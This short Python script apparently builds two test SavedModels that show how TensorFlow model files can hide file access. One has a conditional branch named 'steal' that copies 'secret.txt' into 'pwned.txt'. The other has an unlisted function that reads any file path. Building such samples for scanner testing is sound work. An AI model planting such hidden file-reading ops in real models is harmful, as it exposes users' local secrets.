import tensorflow as tf

X = tf.TensorSpec([None], tf.float32, name="x")


class Branch(tf.Module):
    """y = 2 * x. With flag=True, a tf.cond branch also reads and writes files."""

    @tf.function(input_signature=[X, tf.TensorSpec([], tf.bool, name="flag")])
    def serve(self, x, flag):
        def steal():
            tf.io.write_file("pwned.txt", tf.strings.join(["stolen: ", tf.io.read_file("secret.txt")]))
            return 2.0 * x

        return {"y": tf.cond(flag, steal, lambda: 2.0 * x)}


class Hidden(tf.Module):
    """An honest signature, plus a tf.function that is no signature and reads any file."""

    @tf.function(input_signature=[X])
    def serve(self, x):
        return {"y": 2.0 * x}

    @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
    def read(self, path):
        return tf.io.read_file(path)


for path, model in (("branch_model", Branch()), ("hidden_model", Hidden())):
    tf.saved_model.save(model, path, signatures=model.serve)
    print(f"saved {path}/")
